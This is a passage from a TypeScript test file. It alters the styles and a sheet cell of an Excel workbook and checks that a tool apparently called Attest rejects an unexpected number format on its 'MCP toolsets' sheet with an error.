      const xfs = Number(/<cellXfs count="(\d+)">/.exec(String(p.get('xl/styles.xml')))![1]);
      replaceIn(
        p,
        'xl/styles.xml',
        '</cellXfs>',
        '<xf numFmtId="165" fontId="0" fillId="0" borderId="0" xfId="0" applyNumberFormat="1"/></cellXfs>',
      );
      replaceIn(p, sheetPart(p, 'MCP toolsets'), /<c r="([A-Z]+2)"><v>/, `<c r="$1" s="${xfs}"><v>`);
    });
    expect(format.code).toBe(1);
    expect(format.stderr).toContain(`'MCP toolsets' row 2 has the number format "0\\"00\\"", which Attest never writes`);
  });
});
